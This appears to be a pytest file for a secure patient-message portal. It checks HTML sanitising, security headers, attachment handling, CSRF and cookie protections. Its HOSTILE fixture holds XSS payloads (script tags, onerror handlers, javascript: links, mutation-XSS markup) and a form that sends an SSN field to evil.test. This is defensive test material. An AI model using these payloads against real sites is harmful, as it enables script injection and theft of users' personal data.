"""Reading: what is shown, how it is shut in, attachments, printing, deletion, and the headers of every page."""

import io
import re
import zipfile
from typing import Any

import pytest
from django.test import Client

from carepost.proof import kinds
from carepost.rfc.compose import Attachment
from carepost.tenancy.models import Organisation
from tests.support.mailroom import SECRET_SUBJECT, SECRET_TEXT, again, happened, lay

HOSTILE = """<html><head><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">
<style>@import url(https://evil.test/x.css); p { background: url(https://evil.test/p) }</style></head>
<body onload="alert(1)"><p style="background:url(https://evil.test/s);color:red" onclick="alert(2)">Dear Jane</p>
<script>alert(3)</script><svg><foreignObject><script>alert(4)</script></foreignObject></svg>
<img src="cid:logo"><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="https://evil.test/pixel.gif">
<img src=x onerror=alert(5)><a href="javascript:alert(6)">one</a>
<a href="data:text/html,<script>alert(7)</script>">two</a><a href="https://clinic.test/page">three</a>
<form action="https://evil.test/steal"><input name="ssn"><button>go</button></form>
<iframe src="https://evil.test"></iframe><object data="https://evil.test"></object>
<math><mtext></table><mglyph><style><img src=x onerror=alert(8)>
</body></html>"""
LOGO = Attachment("logo.png", "image/png", b"\x89PNG made up", content_id="logo")


def test_a_hostile_page_is_shown_without_its_teeth(maple: Organisation, guest: Any) -> None:
    """BI-062, BI-067."""
    row = lay(maple, html=HOSTILE, text=None, attachments=[LOGO])
    guest.enter(row)
    shown = guest.get(f"/m/{row.link}/body")
    text = shown.content.decode()
    assert "Dear Jane" in text
    assert "data:image/png;base64," in text
    assert 'href="https://clinic.test/page"' in text
    assert 'rel="noopener noreferrer nofollow"' in text
    for tooth in ("evil.test", "alert", "<script", "onerror", "onclick", "javascript:", "<form", "<iframe", "<object",
                  "<svg", "<math", "svg+xml", "<base", "http-equiv", "@import"):  # fmt: skip
        assert tooth not in text
    policy = shown.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "sandbox" in policy
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy
    assert "form-action 'none'" in policy
    page = guest.get(f"/m/{row.link}/read").content.decode()
    frame = re.search(r"<iframe[^>]*>", page)
    assert frame
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in frame[0]
    assert "Pictures from other websites are not shown" in page
    # a picture inside the text is no attachment
    assert "Attachments" not in page


def test_text_is_shown_as_text(maple: Organisation, guest: Any) -> None:
    row = lay(maple, text="1 < 2 <b>bold</b> & see https://clinic.test/a?b=1&c=2 now")
    guest.enter(row)
    text = guest.get(f"/m/{row.link}/body").content.decode()
    assert "1 &lt; 2 &lt;b&gt;bold&lt;/b&gt; &amp; see" in text
    assert 'href="https://clinic.test/a?b=1&amp;c=2"' in text


def test_a_page_with_its_frame_is_one_showing(maple: Organisation, guest: Any) -> None:
    row = lay(maple)
    guest.enter(row)
    page = guest.get(f"/m/{row.link}/read").content.decode()
    source = re.search(r'<iframe[^>]*src="([^"]+)"', page)
    assert source
    guest.get(source[1].replace("&amp;", "&"))
    kind = (kinds.PORTAL_OPENED, kinds.PORTAL_VIEWED)
    assert len(happened(maple.pk, *kind)) == 1
    # the frame alone, or with a made-up ticket, is a showing of its own
    guest.get(f"/m/{row.link}/body")
    guest.get(f"/m/{row.link}/body?t=x:y")
    assert len(happened(maple.pk, *kind)) == 3
    assert SECRET_TEXT not in source[1]


def test_attachments_come_down_as_files_whatever_they_claim(maple: Organisation, guest: Any) -> None:
    """BI-056, BI-057."""
    page = Attachment("notes.png", "image/png", b"<script>alert(1)</script>")
    odd = Attachment("a\u0308rger \u2014 2026.pdf", "application/pdf", b"%PDF made up")
    row = lay(maple, attachments=[page, odd])
    guest.enter(row)
    shown = guest.get(f"/m/{row.link}/read").content.decode()
    assert "Attachments (2)" in shown
    assert "PNG picture, 25 bytes" in shown
    assert "Not checked for viruses" in shown
    one = guest.get(f"/m/{row.link}/file/0")
    assert one.content == page.data
    assert one.headers["Content-Type"] == "application/octet-stream"
    assert one.headers["X-Content-Type-Options"] == "nosniff"
    assert one.headers["Content-Disposition"].startswith('attachment; filename="notes.png"')
    assert "sandbox" in one.headers["Content-Security-Policy"]
    two = guest.get(f"/m/{row.link}/file/1").headers["Content-Disposition"]
    assert two.isascii()
    assert "filename*=UTF-8''%C3%A4rger" in two
    packed = zipfile.ZipFile(io.BytesIO(guest.get(f"/m/{row.link}/files").content))
    assert len(packed.namelist()) == 2
    assert guest.get(f"/m/{row.link}/file/2").status_code == 404
    assert len(happened(maple.pk, kinds.PORTAL_DOWNLOADED)) == 3


def test_printing_has_everything_and_no_buttons(maple: Organisation, guest: Any) -> None:
    row = lay(maple, html='<p>See <a href="https://clinic.test/x">the page</a><script>alert(1)</script></p>', text=None,
              attachments=[Attachment("values.csv", "text/csv", b"1")])  # fmt: skip
    guest.enter(row)
    shown = guest.get(f"/m/{row.link}/print")
    text = shown.content.decode()
    for part in (SECRET_SUBJECT, "Dr. Olive Owl", "dr.owl@maple.test", "values.csv", "counter(pages)", "attr(href)",
                 "First opened"):  # fmt: skip
        assert part in text
    assert "<button" not in text
    assert "<script" not in text
    assert "sandbox" in shown.headers["Content-Security-Policy"]
    assert "<title>Secure message for printing</title>" in text


@pytest.mark.parametrize("path", ["", "/code", "/read", "/body", "/print", "/reply", "/delete", "/help", "/file/0"])
def test_no_page_is_kept_framed_or_told_elsewhere(path: str, maple: Organisation, guest: Any) -> None:
    """BI-095, HS-20; BI-094: no token in a Referer."""
    row = lay(maple, attachments=[Attachment("a.txt", "text/plain", b"1")])
    guest.enter(row)
    shown = guest.get(f"/m/{row.link}{path}")
    assert shown.headers["Cache-Control"] == "no-store"
    assert shown.headers["Referrer-Policy"] in ("same-origin", "no-referrer")
    assert shown.headers["X-Content-Type-Options"] == "nosniff"
    policy = shown.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "unsafe-eval" not in policy
    if path == "/body":
        assert "frame-ancestors 'self'" in policy
    else:
        assert "frame-ancestors 'none'" in policy
        assert shown.headers["X-Frame-Options"] == "DENY"
    text = shown.content.decode()
    assert not re.search(r'(?:src|href|action)="https?://(?!testserver)', text)
    assert "javascript:" not in text
    assert " on" not in "".join(re.findall(r"<[a-z][^>]*\son[a-z]+=", text))
    title = re.search(r"<title>(.*?)</title>", text)
    if title:
        for word in ("Quillfeather", "Owl", "panel", "patient.test"):
            assert word not in title[1]


def test_a_form_without_its_token_is_refused(maple: Organisation, guest: Any) -> None:
    """BI-095: CSRF on code, reply, deletion, sign-out."""
    row = lay(maple)
    guest.enter(row)
    for path in (f"/m/{row.link}/send-code", f"/m/{row.link}/code", f"/m/{row.link}/reply", f"/m/{row.link}/draft",
                 f"/m/{row.link}/delete", "/sign-out", "/settings/sessions/end", "/settings/data"):  # fmt: skip
        assert guest.http.post(path, {"text": "x"}).status_code == 403
    assert again(row).state in ("open", "opened")
    assert guest.get(f"/m/{row.link}/read").status_code == 200


def test_cookies_are_shut_in(maple: Organisation, guest: Any, settings: Any) -> None:
    row = lay(maple)
    answer = guest.enter(row)
    cookie = answer.cookies["carepost-guest"]
    assert (cookie["httponly"], cookie["samesite"], cookie["path"], cookie["max-age"]) == (True, "Lax", "/", "")
    stolen = Client()
    stolen.cookies["carepost-guest"] = ("B" if cookie.value[0] == "A" else "A") + cookie.value[1:]
    assert stolen.get(f"/m/{row.link}/read").status_code == 302
    # over TLS it is bound to this host
    settings.SESSION_COOKIE_SECURE = True
    other = lay(maple, code="Blue Heron 42")
    answer = guest.post(f"/m/{other.link}/prove", f"/m/{other.link}", answer="blue heron 42")
    assert answer.cookies["__Host-carepost-guest"]["secure"]


def test_deleting_asks_first_and_goes_to_the_list(maple: Organisation, guest: Any) -> None:
    row = lay(maple)
    guest.enter(row)
    assert "Delete this message?" in guest.get(f"/m/{row.link}/delete").content.decode()
    assert again(row).state != "deleted"
    assert guest.post(f"/m/{row.link}/delete").headers["Location"] == "/messages"
    assert again(row).state == "deleted"
    assert guest.get(f"/m/{row.link}").status_code == 410
